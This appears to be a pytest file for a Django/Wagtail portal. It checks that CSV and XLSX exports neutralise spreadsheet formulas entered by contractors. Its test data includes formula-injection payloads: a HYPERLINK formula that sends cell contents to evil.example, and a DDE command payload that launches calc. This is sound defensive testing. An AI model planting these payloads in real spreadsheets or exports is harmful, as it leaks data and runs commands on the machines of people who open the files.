"""Downloads of the admin's exports: no cell a contractor wrote runs as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.contrib.forms.utils import get_field_clean_name

from portal.exports import cell_neutralise
from tests.form_pages import post_form_page

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
WORK = get_field_clean_name("作业内容")


@pytest.fixture
def admin(client_for, make_user):
    """Request answers are a superuser's to see in the forms admin."""
    return client_for(make_user(is_superuser=True))


@pytest.fixture
def filed(client_for, manager_a, site_a, visit_page):
    """One filing per formula, written by a contractor into a text field."""
    contractor = client_for(manager_a)
    for answer in [*FORMULAS, "更换电池"]:
        response = post_form_page(
            contractor,
            visit_page.url,
            {"site": site_a.pk, "subject": "x", WORK: answer, "urgency": "High"},
        )
        assert response.status_code == 302, response.content[:500]
    return visit_page


def exported(admin, page, export_format) -> list[list]:
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    response = admin.get(url, {"export": export_format})
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if export_format == "csv":
        return list(csv.reader(io.StringIO(body.decode())))
    sheet = load_workbook(io.BytesIO(body)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def column(rows: list[list], heading: str) -> list:
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_form_submission_export_neutralises_formulas(admin, filed, export_format):
    answers = column(exported(admin, filed, export_format), "作业内容")

    # The form strips the leading tab and carriage return; the rest is kept.
    assert sorted(answers) == sorted(["'" + f.strip() for f in FORMULAS] + ["更换电池"])


def test_report_export_neutralises_page_titles(admin, visit_page):
    visit_page.title = "=1+2"
    visit_page.locked = True
    visit_page.locked_at = timezone.now()
    visit_page.save()

    response = admin.get(
        reverse("wagtailadmin_reports:locked_pages"), {"export": "csv"}
    )
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert "'=1+2" in [row[0] for row in rows]
    assert "=1+2" not in [row[0] for row in rows]


@pytest.mark.parametrize(
    ("value", "export_format", "cell"),
    [
        ("\t=1+1", "csv", "'\t=1+1"),
        ("\r=1+1", "xlsx", "'\r=1+1"),
        ("\0=1+1", "csv", "'\0=1+1"),
        ("\0=1+1", "xlsx", "'=1+1"),
        ("plain -1", "csv", "plain -1"),
        (-1, "csv", -1),
    ],
)
def test_cell_neutralise(value, export_format, cell):
    assert cell_neutralise(value, export_format) == cell
